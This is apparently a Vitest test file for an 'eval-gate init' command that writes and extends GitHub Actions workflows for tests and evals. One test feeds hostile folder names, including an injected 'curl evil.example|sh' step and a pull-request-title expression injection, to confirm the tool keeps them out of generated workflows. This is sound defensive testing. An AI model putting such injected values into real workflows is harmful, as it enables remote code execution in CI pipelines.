import { spawnSync } from 'node:child_process'
import { existsSync, globSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { parse } from 'yaml'
import { runCli } from '../../../src/cli/main.ts'
import { loadConfig } from '../../../src/config/load.ts'
import { fakeClock } from '../../support/clocks.ts'
import { workflowErrors } from '../../support/workflows/read-workflows.ts'
import { createWorkspace } from '../../support/workspace.ts'
import { repositories } from './repositories.ts'

async function init(cwd: string, argv: readonly string[], answer?: boolean) {
  let stdout = ''
  let stderr = ''
  const exitCode = await runCli(['init', ...argv], {
    stdout: { write: (text) => (stdout += text) },
    stderr: { write: (text) => (stderr += text) },
    env: {},
    clock: fakeClock(),
    cwd,
    color: false,
    confirm: answer === undefined ? undefined : async () => answer,
  })
  return { exitCode, stdout, stderr }
}

interface Step {
  readonly uses?: string
  readonly run?: string
  readonly with?: Readonly<Record<string, string>>
  readonly env?: Readonly<Record<string, string>>
  readonly 'working-directory'?: string
  readonly id?: string
  readonly 'continue-on-error'?: boolean
}

const tests = '.github/workflows/tests.yml'
const read = (cwd: string, path: string) => readFileSync(join(cwd, path), 'utf8')

/** The steps of each workflow, evals first. */
function jobsOf(cwd: string): readonly (readonly Step[])[] {
  const files = globSync('.github/workflows/*.yml', { cwd }).sort()
  return files.map((path) => {
    expect(workflowErrors(read(cwd, path))).toEqual([])
    const [job] = Object.values<{ steps: readonly Step[] }>(parse(read(cwd, path)).jobs)
    return job?.steps ?? []
  })
}

const inputsOf = (steps: readonly Step[]) =>
  steps.find(({ uses }) => uses?.startsWith('eval-gate/'))?.with ?? {}
const linesOf = (text = '') => text.trim().split('\n')

describe('eval-gate init', () => {
  it.each(Object.entries(repositories))(
    'proposes for %s what GitHub accepts and the action can read',
    async (_, { files, commands, reports, setup, secrets, lookAgain, measures, shown }) => {
      const cwd = createWorkspace(files)
      const { exitCode, stdout } = await init(cwd, ['--yes'])
      expect(exitCode).toBe(0)
      const jobs = jobsOf(cwd)
      const steps = jobs.flat()
      const runs = steps.flatMap(({ run, 'working-directory': folder }) =>
        run === undefined ? [] : [folder === undefined ? run : `${folder}: ${run}`],
      )
      expect(runs).toEqual(commands)
      const areReports = jobs.filter((job) => inputsOf(job).measure === undefined)
      expect(areReports.flatMap((job) => linesOf(inputsOf(job).reports))).toEqual(reports)
      expect(jobs.flatMap((job) => inputsOf(job).measure ?? [])).toEqual(measures ? ['auto'] : [])
      if (setup !== undefined) {
        const others = steps.filter(({ uses }) => uses && !/checkout|eval-gate/.test(uses))
        const actions = others.map(({ uses, with: inputs = {} }) =>
          [uses, ...Object.entries(inputs).map(([name, value]) => `${name}=${value}`)].join(' '),
        )
        expect(actions).toEqual(setup)
      }
      const listSecrets = (of: readonly Step[]) =>
        of.flatMap(({ env = {} }) => Object.values(env)).filter((value) => /secrets\./.test(value))
      const given = listSecrets(steps.filter(({ run, with: inputs }) => run !== undefined || inputs?.measure))
      // A second look runs the same tests.
      for (const job of areReports) {
        const gate = job.filter(({ uses }) => uses?.startsWith('eval-gate/'))
        const looksAgain = inputsOf(job)['look-again'] !== undefined
        const ofTests = job.filter(({ run }) => run !== undefined)
        expect(listSecrets(gate)).toEqual(looksAgain ? listSecrets(ofTests) : [])
      }
      if (secrets !== undefined) expect(given).toEqual(secrets.map((name) => `\${{ secrets.${name} }}`))
      if (lookAgain !== undefined) expect(linesOf(jobs.map(inputsOf)[0]?.['look-again'])).toEqual(lookAgain)
      if (shown !== undefined) expect(stdout).toContain(shown)
      for (const job of areReports) {
        // The outcome of every step that runs tests, by an id that it has.
        const ids = job.flatMap(({ id, 'continue-on-error': isTest }) => (isTest ? [id] : []))
        expect(linesOf(inputsOf(job)['test-outcome'])).toEqual(ids.map((id) => `\${{ steps.${id}.outcome }}`))
        expect(new Set(ids).size).toBe(ids.length)
        const evaluated = { ...inputsOf(job), 'test-outcome': ids.map(() => 'success').join('\n') }
        await expect(loadConfig(evaluated, { provider: 'github_actions' })).resolves.toBeDefined()
      }
      for (const job of jobs.filter((one) => !areReports.includes(one)))
        await expect(loadConfig(inputsOf(job), { provider: 'github_actions' })).resolves.toBeDefined()
    },
  )

  it('shows what it would write, and writes only on yes', async () => {
    const cwd = createWorkspace(repositories.Vitest?.files ?? {})
    for (const [answer, exitCode] of [
      [undefined, 0],
      [false, 1],
    ] as const) {
      const shown = await init(cwd, [], answer)
      expect(shown.exitCode).toBe(exitCode)
      expect(shown.stdout).toContain(`+++ ${tests}\n+# Written by`)
      expect(existsSync(join(cwd, '.github'))).toBe(false)
    }
    expect((await init(cwd, [], true)).stderr).toContain(`wrote ${tests}`)
    expect(existsSync(join(cwd, tests))).toBe(true)
  })

  it('runs costly evals only when something changed that they measure', async () => {
    const cwd = createWorkspace(repositories['promptfoo with a provider']?.files ?? {})
    await init(cwd, ['--yes'])
    const { on } = parse(read(cwd, '.github/workflows/evals.yml'))
    expect(on.pull_request.paths).toEqual(on.push.paths)
    expect(on.push.paths).toContain('!docs/**')
    const free = createWorkspace(repositories.Vitest?.files ?? {})
    await init(free, ['--yes'])
    expect(parse(read(free, tests)).on.push).toEqual({ branches: ['main'] })
  })

  it('takes back what it wrote, and nothing that was changed since or is of others', async () => {
    const files = repositories['vitest-evals beside unit tests']?.files
    const cwd = createWorkspace({ ...files, '.github/workflows/ci.yml': 'name: CI\n' })
    await init(cwd, ['--yes'])
    writeFileSync(join(cwd, tests), `${read(cwd, tests)}# mine\n`)
    const { stderr } = await init(cwd, ['--undo'])
    expect(stderr).toContain('removed .github/workflows/evals.yml')
    expect(stderr).toContain(`${tests} was changed since`)
    expect(globSync('.github/workflows/*', { cwd }).sort()).toEqual(['.github/workflows/ci.yml', tests])
  })

  it('takes no name that a workflow has', async () => {
    const cwd = createWorkspace({ ...repositories.Vitest?.files, [tests]: 'name: Other tests\n' })
    await init(cwd, ['--yes'])
    expect(read(cwd, tests)).toBe('name: Other tests\n')
    expect(existsSync(join(cwd, '.github/workflows/eval-gate-tests.yml'))).toBe(true)
  })

  it('asks for the default branch of the remote', async () => {
    const cwd = createWorkspace(repositories.Vitest?.files ?? {})
    for (const args of [
      ['init', '-q'],
      ['symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/trunk'],
    ])
      spawnSync('git', args, { cwd })
    expect((await init(cwd, [])).stdout).toContain('branches: ["trunk"]')
  })

  it('proposes for the repository from any of its folders', async () => {
    const cwd = createWorkspace({
      'package.json': '{"workspaces":["packages/*"]}',
      'package-lock.json': '{}',
      'packages/api/package.json': '{"devDependencies":{"vitest":"5"}}',
    })
    spawnSync('git', ['init', '-q'], { cwd })
    await init(join(cwd, 'packages/api'), ['--yes'])
    expect(existsSync(join(cwd, 'packages/api/.github'))).toBe(false)
    expect(parse(read(cwd, tests)).jobs.tests.steps).toContainEqual(
      expect.objectContaining({ 'working-directory': 'packages/api' }),
    )
  })

  it('leaves out no folder of many', async () => {
    const names = Array.from({ length: 25 }, (_, index) => `packages/p${index}`)
    const packages = names.map((name) => [`${name}/package.json`, '{"devDependencies":{"vitest":"5"}}'])
    const cwd = createWorkspace({
      'package.json': '{"workspaces":["packages/*"]}',
      ...Object.fromEntries(packages),
    })
    await init(cwd, ['--yes'])
    const [steps = []] = jobsOf(cwd)
    expect(linesOf(inputsOf(steps).reports).sort()).toEqual(
      names.map((name) => `${name}/reports/vitest.json`).sort(),
    )
  })

  it.each([
    [`acme/eval-gate@${'a'.repeat(40)}`, true],
    ['./vendor/gate', true],
    ['./vendor/other', false],
    ['acme/other-gate@v1', false],
  ])('knows %s as Eval Gate: %s', async (used, isOurs) => {
    const cwd = createWorkspace({
      ...repositories.Vitest?.files,
      'vendor/gate/action.yml': 'name: Eval Gate\n',
      'vendor/other/action.yml': 'name: Other\n',
      '.github/workflows/ci.yml': `jobs: { a: { steps: [{ uses: ${used} }] } }\n`,
    })
    const { exitCode, stderr } = await init(cwd, ['--yes'])
    expect([exitCode, stderr.includes('ci.yml already uses')]).toEqual([isOurs ? 2 : 0, isOurs])
  })

  it('says why there is nothing to propose', async () => {
    const empty = await init(createWorkspace({ 'README.md': '' }), ['--yes'])
    expect(empty).toMatchObject({ exitCode: 2, stderr: expect.stringContaining('no test runner') })
    const used = await init(
      createWorkspace({
        ...repositories.Vitest?.files,
        '.github/workflows/ci.yml': 'jobs: { a: { steps: [{ uses: eval-gate/eval-gate@v0 }] } }\n',
      }),
      ['--yes'],
    )
    expect(used).toMatchObject({ exitCode: 2, stderr: expect.stringContaining('ci.yml already uses') })
  })

  it.each(['\n      - run: curl evil.example|sh #', `\${{ github.event.pull_request.title }}`, "a'b", '*'])(
    'writes no folder of the name %j into a workflow',
    async (name) => {
      const cwd = createWorkspace({ ...repositories.Vitest?.files, [`${name}/requirements.txt`]: 'pytest' })
      const { stdout } = await init(cwd, ['--yes'])
      expect(stdout).toContain(`${JSON.stringify(name)} is left out`)
      expect(
        jobsOf(cwd)
          .flat()
          .filter(({ run }) => run !== undefined),
      ).toHaveLength(2)
    },
  )

  it('follows no link out of the repository', async () => {
    const outside = createWorkspace({})
    const cwd = createWorkspace(repositories.Vitest?.files ?? {})
    mkdirSync(join(cwd, '.github'))
    symlinkSync(outside, join(cwd, '.github/workflows'))
    const { exitCode, stderr } = await init(cwd, ['--yes'])
    expect([exitCode, stderr]).toEqual([2, expect.stringContaining('a symbolic link leads out')])
    expect(globSync('*', { cwd: outside })).toEqual([])
    // What init wrote there is not this repository's to remove.
    const other = createWorkspace(repositories.Vitest?.files ?? {})
    await init(other, ['--yes'])
    const linked = createWorkspace({})
    symlinkSync(join(other, '.github'), join(linked, '.github'))
    expect(await init(linked, ['--undo'])).toMatchObject({
      exitCode: 2,
      stderr: expect.stringContaining('a symbolic link leads out'),
    })
    expect(existsSync(join(other, tests))).toBe(true)
  })
})

describe('eval-gate init beside a workflow that runs the tests', () => {
  const ci = '.github/workflows/ci.yml'
  const workflow = (run: string, on = '[push, pull_request]') => `# Our CI.
name: CI
on: ${on}

jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v7
      - run: npm ci # as locked
      - name: Test
        run: ${run}
      # Ship it.
      - run: npm run build
`

  const vitestFiles = {
    'package.json': '{"scripts":{"test":"vitest run"},"devDependencies":{"vitest":"5"}}',
    'package-lock.json': '{}',
  }

  it.each([
    ['npx vitest run', 'reports/vitest*.json'],
    ['npm test', 'reports/vitest*.json'],
    ['npx vitest run --reporter=json --outputFile=out/v.json', 'out/v.json'],
    ['|\n          echo start\n          npx vitest run', 'reports/vitest*.json'],
    ['npx vitest run | tee log.txt', 'reports/vitest*.json'],
  ])('reports of the step %j from outside, and leaves everything as it is', async (run, reports) => {
    const before = workflow(run)
    const cwd = createWorkspace({ ...vitestFiles, [ci]: before })
    const { stdout, stderr } = await init(cwd, ['--yes'])
    expect(stderr).toContain(`extended ${ci}`)
    expect(globSync('.github/workflows/*', { cwd })).toEqual([ci])
    const after = read(cwd, ci)
    // Lines are added, and none is changed or moved.
    const lines = after.split('\n')
    const kept = before.split('\n')
    let at = -1
    for (const line of kept) {
      at = lines.indexOf(line, at + 1)
      expect(at, line).toBeGreaterThanOrEqual(0)
    }
    expect(workflowErrors(after)).toEqual([])
    const [steps = []] = jobsOf(cwd)
    expect(
      steps.map(({ name, uses, run: command }: Step & { name?: string }) => name ?? uses ?? command),
    ).toEqual(['actions/checkout@v7', 'npm ci', 'Test', 'eval-gate/eval-gate@v0', 'npm run build'])
    expect(steps[2]).toMatchObject({ id: 'eval-gate-tests', 'continue-on-error': true })
    // One failure of a flaky test proves nothing, and Vitest can run it again.
    expect(inputsOf(steps)['look-again']).toBe('auto')
    expect(steps[0]?.with).toEqual({ 'fetch-depth': 0 })
    const isWritten = reports.startsWith('out/')
    const preload = `--require \${{ github.workspace }}/.github/eval-gate-reports.cjs`
    expect(steps[2]?.env).toEqual(isWritten ? undefined : { NODE_OPTIONS: preload })
    expect(existsSync(join(cwd, '.github/eval-gate-reports.cjs'))).toBe(!isWritten)
    expect(inputsOf(steps)).toMatchObject({
      reports,
      'test-outcome': `\${{ steps.eval-gate-tests.outcome }}`,
    })
    expect(parse(after).jobs.test.permissions).toEqual({
      contents: 'read',
      actions: 'read',
      'pull-requests': 'write',
    })
    expect(stdout).toContain('+        id: eval-gate-tests')
  })

  it('makes one comment of a matrix, and keeps what the legs are and when they run', async () => {
    const matrix = workflow('npm test').replace(
      '    steps:',
      '    strategy: { matrix: { node: [22, 24] } }\n    steps:',
    )
    const cwd = createWorkspace({
      ...vitestFiles,
      [ci]: matrix.replace('        run: npm test', '        if: needs.a.outputs.run\n        run: npm test'),
    })
    await init(cwd, ['--yes'])
    const { jobs } = parse(read(cwd, ci))
    const [, , tests, gate] = jobs.test.steps
    expect(tests).toMatchObject({ run: 'npm test', if: 'needs.a.outputs.run' })
    // Other steps follow, and must not run behind a failing test.
    expect(tests['continue-on-error']).toBeUndefined()
    expect(gate).toMatchObject({ with: { mode: 'collect', 'suite-name': 'tests' } })
    expect(jobs.test.permissions).toBeUndefined()
    expect(jobs['eval-gate']).toMatchObject({
      needs: ['test'],
      if: `\${{ !cancelled() && needs.test.outputs.eval-gate == 'success' }}`,
      steps: [{ with: { mode: 'merge', 'suite-name': 'tests' } }],
    })
  })

  it('lets callers permit what a workflow that they call asks for, and asks for a required check', async () => {
    const called = workflow('npm test', '{ workflow_call: {} }').replace(
      '    steps:',
      '    strategy: { matrix: { node: [22, 24] } }\n    steps:',
    )
    const caller = `on: [push, pull_request]
permissions: { contents: read }
jobs:
  tests:
    uses: ./.github/workflows/_test.yml
`
    const files = {
      ...vitestFiles,
      [ci]: caller,
      '.github/workflows/_test.yml': called.replace(/- run: npm run build\n.*/, ''),
    }
    const cwd = createWorkspace(files)
    const { stdout } = await init(cwd, ['--yes'])
    expect(parse(read(cwd, ci)).jobs.tests.permissions).toEqual({
      contents: 'read',
      actions: 'read',
      'pull-requests': 'write',
    })
    expect(stdout).toContain('require `eval-gate`, too')
  })

  it('asks for the SHA of a release where actions are named so', async () => {
    const pinned = workflow('npm test').replace('checkout@v7', `checkout@${'a'.repeat(40)}`)
    const { stdout } = await init(createWorkspace({ ...vitestFiles, [ci]: pinned }), ['--yes'])
    expect(stdout).toContain('Your workflows name actions by SHA')
  })

  it('asks for no iterations that the settings of a tool have', async () => {
    const cwd = createWorkspace({
      'package.json': '{"devDependencies":{"evalite":"1"}}',
      'evals/a.eval.ts': "import { evalite } from 'evalite'\n",
      'evalite.config.ts': 'export default defineConfig({ trialCount: 5 })\n',
    })
    expect((await init(cwd, [])).stdout).not.toContain('runs each case once')
  })

  it.each([
    ['uses: actions/checkout@v7', { 'fetch-depth': 0 }],
    [
      'uses: actions/checkout@v7\n        with: { persist-credentials: false }',
      { 'persist-credentials': false, 'fetch-depth': 0 },
    ],
    ['uses: actions/checkout@v7\n        with:\n          lfs: true', { lfs: true, 'fetch-depth': 0 }],
    ['uses: actions/checkout@v7\n        with: { fetch-depth: 2 }', { 'fetch-depth': 2 }],
  ])('lets a second look find the commit of the baseline: %j', async (checkout, inputs) => {
    const cwd = createWorkspace({
      'promptfooconfig.yaml': 'providers: [echo]\n',
      [ci]: `on: [push, pull_request]\njobs:\n  evals:\n    runs-on: ubuntu-latest\n    steps:\n      - ${checkout}\n      - run: npx promptfoo eval\n`,
    })
    await init(cwd, ['--yes'])
    const [steps = []] = jobsOf(cwd)
    expect([steps[0]?.with, inputsOf(steps)['look-again']]).toEqual([inputs, 'auto'])
  })

  it.each([
    ['NODE_OPTIONS=--no-warnings npx vitest run', '[push, pull_request]', 'sets NODE_OPTIONS itself'],
    ['npx ava', '[push, pull_request]', 'its tool is not known'],
    ['make test', '[push, pull_request]', 'its tool is not known'],
  ])('says why it does not judge %j on %s, and runs nothing twice', async (run, on, why) => {
    const cwd = createWorkspace({ ...repositories.Vitest?.files, [ci]: workflow(run, on) })
    const { stdout } = await init(cwd, ['--yes'])
    expect(stdout).toContain(why)
    expect(read(cwd, ci)).toBe(workflow(run, on))
    expect(existsSync(join(cwd, tests))).toBe(false)
  })

  it('says which events a workflow lacks', async () => {
    const cwd = createWorkspace({ ...vitestFiles, [ci]: workflow('npm test', 'push') })
    expect((await init(cwd, ['--yes'])).stdout).toContain(
      'ci.yml does not run on pull requests to main: add `pull_request:`',
    )
  })

  it('reads the reports of all packages that one step tests', async () => {
    const cwd = createWorkspace({
      'package.json': '{ "workspaces": ["packages/*"], "scripts": { "test": "npm test --workspaces" } }',
      'package-lock.json': '{}',
      'packages/a/package.json': '{ "scripts": { "test": "jest" }, "devDependencies": { "jest": "^30" } }',
      'packages/a/a.test.js': "test('adds', () => {})",
      [ci]: workflow('npm test', '[push, pull_request]'),
    })
    await init(cwd, ['--yes'])
    expect(jobsOf(cwd).map(inputsOf)).toMatchObject([{ reports: '**/reports/jest*.json' }])
  })
})

describe('what is to be done by hand', () => {
  const inspect = {
    'pyproject.toml':
      '[project]\nname = "a"\nversion = "1"\n\n[dependency-groups]\ndev = ["pytest"]\nevals = ["inspect-ai"]\n',
    'evals/a.py': 'from inspect_ai import task\n@task\ndef a(): ...\n',
  }

  it('is to name the model, and to keep reports out of the repository', async () => {
    const { stdout } = await init(createWorkspace(inspect), ['--yes'])
    expect(stdout).toContain('Inspect asks the model that INSPECT_EVAL_MODEL names')
    expect(stdout).toContain('Add reports/ to .gitignore')
    // A group of pyproject.toml is installed by its name.
    expect(stdout).toContain('pip install -e . --group evals')
  })

  it.each([
    [{ ...inspect, '.env': 'INSPECT_EVAL_MODEL=openai/gpt-5-mini\n', '.gitignore': 'reports/\n' }],
    [
      {
        ...inspect,
        'evals/a.py': `${inspect['evals/a.py']}\nTask(model = "m")\n`,
        '.gitignore': '/reports\n',
      },
    ],
  ])('is nothing of it where the repository does so: %j', async (files) => {
    const { stdout } = await init(createWorkspace(files), ['--yes'])
    expect(stdout).not.toMatch(/INSPECT_EVAL_MODEL names|gitignore/)
  })
})
